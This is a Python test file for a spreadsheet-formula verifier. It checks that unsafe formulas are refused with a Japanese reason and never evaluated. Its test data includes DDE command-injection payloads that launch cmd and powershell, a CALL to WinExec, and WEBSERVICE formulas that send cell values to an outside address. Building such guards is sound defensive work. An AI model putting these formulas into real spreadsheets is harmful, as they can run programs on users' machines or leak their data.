"""What a formula may not do."""

from __future__ import annotations

import pytest

from nanohana.formulas.refusals import bounds
from nanohana.formulas.table import table_from_text
from nanohana.formulas.task import Task, task_for
from nanohana.formulas.verification import verified

TABLE = table_from_text("品名\t金額\n用紙\t500\n封筒\t30\n")


@pytest.fixture
def task() -> Task:
    return task_for("金額を2倍にする", TABLE)


@pytest.mark.parametrize(
    ("formula", "reason"),
    [
        ('=WEBSERVICE("https://example.jp/?"&B2)', "外部のアドレス"),
        ('=IF(B2>1,IMAGE("https://example.jp/a.png"),0)', "外部のアドレス"),
        ('=HYPERLINK("https://example.jp","開く")', "リンク先"),
        ("=[売上.xlsx]Sheet1!A1*2", "別のブック"),
        (r"='C:\共有\[売上.xlsx]Sheet1'!A1", "別のブック"),
        ("=cmd|'/C calc'!A0", "DDE"),
        ("=+cmd|'/C powershell'!A0", "DDE"),
        ('=CALL("kernel32","WinExec","JCJ","calc",0)', "プログラムを呼び出す"),
        ('=RTD("a",,"b")', "他のプログラムと通信"),
        ('=INDIRECT("[売上.xlsx]Sheet1!A1")', "INDEX関数"),
        ('=INDIRECT("B"&B2)', "INDEX関数"),
        ('=CUBEVALUE("x","y")', "外部のデータベース"),
        ('=INFO("directory")', "パソコン"),
        ("=C2+1", "循環参照"),
        ("=SUM(A:D)", "循環参照"),
        ("=YEN(B2)", "TEXT(値"),
        ("=VLOKUP(A2,A:B,2,0)", "つづり"),
        ("=金額の合計*2", "セル番地"),
        ("=単価表!A2*2", "シートは入力されていません"),
        ("=IF(B2>1", "かっこ|途中"),
    ],
)
def test_is_refused_with_its_reason_and_never_evaluated(task: Task, formula: str, reason: str) -> None:
    result = verified(task, formula)
    assert result.status == "hidden"
    assert not result.values
    assert any(part in " ".join(result.reasons) for part in reason.split("|"))


def test_variables_of_let_and_lambda_are_no_unknown_names(task: Task) -> None:
    result = verified(task, "=LET(税,0.1,MAP(B2:B2,LAMBDA(額,額*(1+税))))")
    assert result.values[0] == pytest.approx(550)


@pytest.mark.parametrize(
    ("cells", "corners"),
    [("B2", (2, 2, 2, 2)), ("$B$2:D$9", (2, 2, 4, 9)), ("C:A", (1, 1, 3, 1_048_576)), ("3:4", (1, 3, 16_384, 4))],
)
def test_bounds_of_a_reference(cells: str, corners: tuple[int, int, int, int]) -> None:
    assert bounds(cells) == corners
